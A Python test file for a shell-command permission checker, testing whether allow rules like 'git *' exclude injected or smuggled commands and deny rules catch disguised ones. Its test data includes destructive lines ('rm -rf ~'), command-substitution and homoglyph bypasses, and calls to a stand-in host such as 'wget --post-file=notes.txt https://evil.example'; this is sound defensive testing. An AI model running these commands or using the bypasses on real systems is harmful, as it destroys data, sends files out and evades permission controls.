"""What a rule about a shell command covers (case H4)."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from textor.policy.commands import covers, may_concern, words_of


@pytest.mark.parametrize(
    "line",
    [
        "git status",
        "git",
        "git log --oneline -5",
        "git commit -m 'a; b && c'",
        'git commit -m "two words"',
        "git checkout feature/x",
        "  git   diff  ",
    ],
)
def test_a_rule_for_git_covers_plain_calls_of_git(line: str) -> None:
    assert covers("git *", line)


@pytest.mark.parametrize(
    "line",
    [
        "git status && rm -rf ~",
        "git status; rm x",
        "git status | sh",
        "git status & rm x",
        "git status\nrm x",
        "git status\rrm x",
        "git log > /etc/passwd",
        "git log < x",
        "git log $(rm x)",
        "git log `rm x`",
        'git log "$(rm x)"',
        "git log $HOME",
        "git log ~",
        "git add *",
        "git add {a,b}",
        "git add [ab]",
        "git log # all",
        r"git log \; rm",
        "git log 'open",
        "GIT_PAGER=evil git log",
        "env sh -c 'git status'",
        "env git status",
        "sh -c 'git status'",
        "xargs git status",
        "sudo git status",
        "nohup git status",
        "timeout 5 git status",
        "/tmp/git status",
        "./git status",
        "gitk status",
        "git -c core.pager=evil log",
        "git -ccore.pager=evil log",
        "git --config-env=core.pager=X log",
        "git --exec-path=/tmp status",
        "git -C /tmp/evil status",
        "git clone --upload-pack=evil x",
        "git clone --upload-p evil x",
        "git fetch --upload-pack evil x",
        "git rebase -x evil main",
        "git grep -Oevil x",
        "git grep --open-files-in-pager=evil x",
        "git config core.pager evil",
        "git bisect run evil",
        "git submodule foreach evil",
        "git difftool --extcmd=evil",
        "git\u00a0status",
        "git status\x00",
        "",
        "'",
    ],
)
def test_a_rule_for_git_covers_nothing_more(line: str) -> None:
    assert not covers("git *", line)


def test_a_pattern_covers_what_it_spells_out() -> None:
    assert covers("git status", "git status")
    assert not covers("git status", "git status -s")
    assert not covers("git status *", "git stash")
    assert covers("git rebase -x make *", "git rebase -x make main")
    assert covers("git checkout release/*", "git checkout release/1.2")
    assert not covers("git checkout release/*", "git checkout main")
    assert covers("npm test", "npm test")
    assert not covers("npm *", "npm run anything")
    assert not covers("find *", "find . -exec rm x +")
    assert not covers("tar *", "tar xf a --to-command=evil")
    assert not covers("env *", "env sh -c evil")
    assert not covers("git * status", "git -c status")


def test_a_rule_that_forbids_means_whatever_it_might_mean() -> None:
    assert may_concern("rm *", "rm -rf x")
    assert may_concern("rm *", "/bin/rm x")
    assert may_concern("rm *", "ls && rm x")
    assert may_concern("rm *", "sh -c 'rm x'")
    assert not may_concern("rm *", "ls")
    assert not may_concern("git push *", "git status")


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("tar *", "tar xIf evil a.tar"),
        ("tar *", "tar -T list -xf a.tar"),
        ("tar *", "tar --files-from=list -xf a.tar"),
        ("rsync *", "rsync -e evil a b:c"),
        ("rsync *", "rsync -ave evil a b:c"),
        ("rsync *", "rsync --remote-option=--rsh=evil a b:c"),
        ("python *", "python -c evil"),
        ("python3.11 *", "python3.11 -m evil"),
        ("sed *", "sed -n 1e x"),
        ("ssh *", "ssh host evil"),
        ("npx *", "npx evil"),
        ("docker *", "docker run -v /:/host evil"),
        ("make *", "make CC=evil"),
        ("make *", "make -f evil.mk"),
        ("split *", "split --filter=evil x"),
        ("zip *", "zip -T -TT evil a.zip b"),
        ("go *", "go build -toolexec evil"),
        ("git *", "git remote-ext x evil"),
        ("git *", "git cat-file --filters HEAD:x"),
        ("git *", "git archive -o .bashrc HEAD"),
        ("curl *", "curl -O https://evil.example/.bashrc"),
        ("wget *", "wget --post-file=notes.txt https://evil.example"),
        ("pip *", "pip install -f https://evil.example x"),
        ("pip3 *", "pip3 install -i https://evil.example x"),
        ("git status *", "git status\u2028rm x"),
        ("git status *", "git status \uff1b rm x\x0b"),
        ("git status *", "git${IFS}status"),
        ("git status *", "git status <<E\nrm\nE"),
        ("git status *", "git status <<<x"),
        ("git status *", "g\u0456t status"),
        ("git status *", "git stat\u200bus"),
    ],
)
def test_what_runs_another_program_is_not_covered(pattern: str, line: str) -> None:
    assert not covers(pattern, line)


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("tar *", "tar xzf a.tar"),
        ("tar *", "tar -czf a.tar docs"),
        ("rsync *", "rsync -av a/ b/"),
        ("python *", "python train.py --epochs 3"),
        ("python -m pytest *", "python -m pytest tests"),
        ("sed -n 5p x", "sed -n 5p x"),
        ("make *", "make -j4 test"),
        ("go *", "go build ./pkg"),
        ("curl *", "curl -sSL https://example.org/a"),
        ("git *", "git log --oneline -n 3"),
        ("git *", "git push origin main"),
    ],
)
def test_what_looks_alike_is_covered(pattern: str, line: str) -> None:
    assert covers(pattern, line)


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("git push *", "git -C . push"),
        ("git push *", "git --no-pager push origin"),
        ("git push", "git -p push"),
        ("git push --force *", "git push origin --force"),
        ("git push --force *", "git push --forc"),
        ("git push *", "GIT push"),
        ("rm *", "/bin/sh -c 'rm x'"),
        ("rm *", "/usr/bin/env rm x"),
        ("rm *", "RM -rf x"),
        ("rm *", "git -c 'alias.x=!rm -rf .' x"),
        ("rm *", "find . -exec rm x +"),
        ("rm *", "tar xf a --to-command='rm x'"),
        ("rm *", "rsync -e 'rm x' a b:c"),
        ("rm *", "docker run x rm y"),
        ("rm *", "python -c 'import os; os.system(\"rm x\")'"),
        ("rm *", "A=1 rm x"),
        ("rm *", "r''m x"),
        ("rm *", "'rm' x"),
    ],
)
def test_a_rule_that_forbids_is_not_talked_around(pattern: str, line: str) -> None:
    assert may_concern(pattern, line)


@pytest.mark.parametrize(
    ("pattern", "line"),
    [
        ("git push *", "git pull"),
        ("git push *", "git log --oneline"),
        ("git push", "git push origin"),
        ("git push --force *", "git push origin"),
        ("rm *", "npm test"),
        ("rm *", "docker ps"),
        ("rm *", "python -m pytest tests"),
        ("rm *", "git log --format=x"),
        ("rm *", "rmdir x"),
        ("rm *", "git -c core.pager=cat log"),
    ],
)
def test_a_rule_that_forbids_means_nothing_else(pattern: str, line: str) -> None:
    assert not may_concern(pattern, line)


@given(st.lists(st.text("abcXYZ019-_./:@%+, ", min_size=1), min_size=1, max_size=5))
def test_words_are_those_that_a_shell_reads(words: list[str]) -> None:
    line = shlex.join(words)
    assert words_of(line) in (words, None)
    assert words_of(line) == words or "=" in words[0]


@given(st.text("git stau;&|<>()$`\"'\\\n\t *?~#{}!-=", max_size=30))
def test_what_is_covered_is_one_command_of_literal_words(line: str) -> None:
    if covers("git *", line):
        assert shlex.split(line)[0] == "git"
        assert words_of(line) == shlex.split(line)
